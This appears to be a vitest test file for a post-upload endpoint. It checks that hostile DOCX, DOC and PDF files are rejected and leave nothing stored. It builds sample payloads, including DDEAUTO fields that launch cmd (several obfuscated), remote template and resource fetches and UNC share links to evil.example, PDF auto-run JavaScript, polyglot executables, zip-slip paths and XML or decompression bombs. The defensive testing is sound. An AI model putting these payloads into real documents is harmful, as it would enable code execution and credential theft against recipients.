import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { documentContentTexts } from '../../../schema/rules/files/files.ts';
import { field, packedPdf, run, withText } from '../../src/testing/documents.ts';
import { aDoc, aDocx, aPdf, aZip, relationships, sendFile } from '../../src/testing/files.ts';
import { anAlumnus, type Person, startTestApp, type TestApp } from '../../src/testing/index.ts';
import { storedObjects, storedRows } from '../support/files.ts';

const unlimited = { points: 10_000, seconds: 60 };
let app: TestApp;
let author: Person;
beforeAll(async () => {
  app = await startTestApp({ limits: { postFiles: unlimited, postFilesPerDay: unlimited } });
  author = await anAlumnus(app);
});
afterAll(() => app.close());

/** A PDF of so many packed objects, each well-formed. */
const manyPacked = (count: number): Buffer => {
  const one = packedPdf('<</Type/Page>>');
  return Buffer.concat([
    aPdf(),
    ...Array.from({ length: count }, () => one.subarray(aPdf().length - 6)),
    aPdf().subarray(-6),
  ]);
};

const officeTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const withRelationship = (type: string, target: string, mode = 'TargetMode="External"') =>
  aDocx({
    'word/_rels/document.xml.rels': relationships(
      `<Relationship Id="r1" Type="${type}" Target="${target}" ${mode}/>`,
    ),
  });

/**
 * Documents that fetch or run something, each spelled so that a search for the usual words would
 * not find it.
 */
const hostileDocuments: [string, () => Buffer][] = [
  [
    'a document whose template is fetched by a mode in entities',
    () =>
      withRelationship(
        `${officeTypes}/attachedTemplate`,
        'https://evil.example/t.dotm',
        'TargetMode="&#x45;xternal"',
      ),
  ],
  [
    'a document whose fetched template is called a link',
    () => withRelationship('https://evil.example/hyperlink', 'https://evil.example/t.dotm'),
  ],
  [
    'a document that fetches a picture',
    () => withRelationship(`${officeTypes}/image`, 'https://evil.example/p.png'),
  ],
  [
    'a document with a link to a file of the reader',
    () => withRelationship(`${officeTypes}/hyperlink`, 'file://evil.example/share'),
  ],
  [
    'a document with a field that leads to a file share',
    () => withText(field(run('HYPERLINK "\\\\\\\\evil.example\\\\share"'))),
  ],
  [
    'a document with a part of another host',
    () => withRelationship(`${officeTypes}/image`, '//evil.example/p.png', ''),
  ],
  [
    'a document whose relationships are in capitals',
    () =>
      aDocx({
        'word/_rels/settings.xml.RELS': relationships(
          `<Relationship Id="r1" Type="${officeTypes}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
        ),
      }),
  ],
  ['a document with a workbook', () => aDocx({ 'word/embeddings/book.xlsm': 'x' })],
  ['a document with a page of the web', () => aDocx({ 'word/page.mht': 'x' })],
  ['a document that takes in another one', () => withText('<w:altChunk r:id="r1" xmlns:r="r"/>')],
  ['a document with a field that runs a program', () => withText(field(run('DDEAUTO c:\\\\cmd')))],
  [
    'a document with such a field in pieces',
    () => withText(field(run(' D'), run('DE'), run('AUTO c:\\\\cmd'))),
  ],
  [
    'a document with such a field in numbers',
    () => withText(field(field(run('QUOTE 68 68 69 65 85 84 79')))),
  ],
  [
    'a document with such a field in one element',
    () => withText('<w:fldSimple w:instr=" &#x44;DE cmd"/>'),
  ],
  ['a document that unpacks to 64 MB', () => withText(' '.repeat(64 * 1024 * 1024))],
  [
    'a document with words of its own',
    () =>
      aDocx({
        'word/document.xml': '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">]><w:document>&a;</w:document>',
      }),
  ],
  ['a document of broken XML', () => aDocx({ 'word/document.xml': '<w:document>' })],
];

/** What is no such document at all, whatever it begins with or is called. */
const others = new Set([
  'a document that says to have macros',
  'an archive',
  'an archive with a program before the document',
  'a document with a program behind it',
  'an old spreadsheet',
  'an old installer',
  'a PDF under the name of a document',
  'a document under the name of one with macros',
  'a page',
  'nothing',
]);

describe('a file of a post', () => {
  it.each<[string, () => Buffer, string]>([
    ['a document with macros', () => aDocx({ 'word/vbaProject.bin': 'x' }), 'a.docx'],
    [
      'a document that says to have macros',
      () => aDocx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'a.docx',
    ],
    [
      'a document with an object of another program',
      () => aDocx({ 'word/embeddings/oleObject1.bin': 'x' }),
      'a.docx',
    ],
    ['a document with a control', () => aDocx({ 'word/activeX/activeX1.xml': '<x/>' }), 'a.docx'],
    [
      'a document that fetches its template',
      () =>
        aDocx({
          'word/_rels/settings.xml.rels': relationships(
            '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
          ),
        }),
      'a.docx',
    ],
    ...hostileDocuments.map(([what, make]): [string, () => Buffer, string] => [
      what,
      make,
      'a.docx',
    ]),
    ['a document with a part outside of it', () => aDocx({ '../../evil.xml': 'x' }), 'a.docx'],
    ['an archive', () => aZip({ 'a.txt': 'x' }), 'a.docx'],
    [
      'an archive with a program before the document',
      () => Buffer.concat([Buffer.from('MZ'), aDocx()]),
      'a.docx',
    ],
    [
      'a document with a program behind it',
      () => Buffer.concat([aDocx(), Buffer.from('MZ')]),
      'a.docx',
    ],
    [
      'an old document with macros',
      () => aDoc(['Root Entry', 'WordDocument', 'Macros', '_VBA_PROJECT']),
      'a.doc',
    ],
    ...[
      'DDEAUTO c:\\cmd',
      ' "dde excel',
      'HYPERLINK "\\\\evil.example\\share" \u0014see',
      'INCLUDEPICTURE "https://evil.example/a.png"',
    ].flatMap((field): [string, () => Buffer, string][] => [
      [
        `an old document with the field ${field}`,
        () => Buffer.concat([aDoc(), Buffer.from(`Dear \u0013${field}\u0015`, 'latin1')]),
        'a.doc',
      ],
      [
        `the same in two bytes for each character: ${field}`,
        () => Buffer.concat([aDoc(), Buffer.from(`Dear \u0013${field}\u0015`, 'utf16le')]),
        'a.doc',
      ],
    ]),
    ['an old spreadsheet', () => aDoc(['Root Entry', 'Workbook']), 'a.doc'],
    ['an old installer', () => aDoc(['Root Entry']), 'a.doc'],
    ['a PDF under the name of a document', () => aPdf(), 'a.docx'],
    ['a document under the name of one with macros', () => aDocx(), 'a.docm'],
    ['a page', () => Buffer.from('<!doctype html><script>1</script>'), 'a.pdf'],
    [
      'a PDF with a program',
      () =>
        Buffer.from(
          aPdf()
            .toString()
            .replace('/Type/Catalog', '/Type/Catalog/OpenAction<</S/JavaScript/JS(1)>>'),
        ),
      'a.pdf',
    ],
    [
      'a PDF with a program whose name is written in numbers',
      () =>
        Buffer.from(
          aPdf()
            .toString()
            .replace('/Type/Catalog', '/Type/Catalog/OpenAction<</S/Java#53cript/J#53(1)>>'),
        ),
      'a.pdf',
    ],
    [
      'a PDF with a program and a comment behind its name',
      () =>
        Buffer.from(
          aPdf()
            .toString()
            .replace('/Type/Catalog', '/Type/Catalog/OpenAction<</S/JavaScript%x\n/JS(1)>>'),
        ),
      'a.pdf',
    ],
    ['a PDF with a packed program', () => packedPdf('<</S/JavaScript/JS(1)>>'), 'a.pdf'],
    [
      'a PDF with packed objects that can not be read',
      () => packedPdf('<<>>', 'Obj#53tm'),
      'a.pdf',
    ],
    [
      'a PDF whose packed program stands far behind its name',
      () => packedPdf('<</S/JavaScript/JS(1)>>', `ObjStm${' '.repeat(700)}`),
      'a.pdf',
    ],
    ['a PDF of more packed objects than a document has', () => manyPacked(1100), 'a.pdf'],
    [
      'a document of more relationships than a document has',
      () =>
        aDocx(
          Object.fromEntries(
            Array.from({ length: 220 }, (_, n) => [`word/_rels/${n}.xml.rels`, relationships()]),
          ),
        ),
      'a.docx',
    ],
    [
      'a document whose relationships unpack to megabytes',
      () =>
        aDocx(
          Object.fromEntries(
            Array.from({ length: 8 }, (_, n) => [
              `word/_rels/${n}.xml.rels`,
              relationships(' '.repeat(900_000)),
            ]),
          ),
        ),
      'a.docx',
    ],
    [
      'a document whose relationships are no tags',
      () =>
        aDocx({
          'word/_rels/x.xml.rels': `<Relationships>${'<'.repeat(500_000)}${'TargetMode="External" '.repeat(20_000)}`,
        }),
      'a.docx',
    ],
    ['nothing', () => Buffer.alloc(0), 'a.pdf'],
  ])('is not %s', async (what, make, name) => {
    const before = { rows: await storedRows(app), objects: storedObjects(app) };
    expect(await sendFile(app.url, author, make(), name)).toEqual({
      code: 'UNSUPPORTED_TYPE',
      message: others.has(what)
        ? 'Only PDF, DOC, and DOCX files are allowed'
        : documentContentTexts[name.endsWith('pdf') ? 'pdf' : 'docx'],
    });
    expect({ rows: await storedRows(app), objects: storedObjects(app) }).toEqual(before);
  });
});
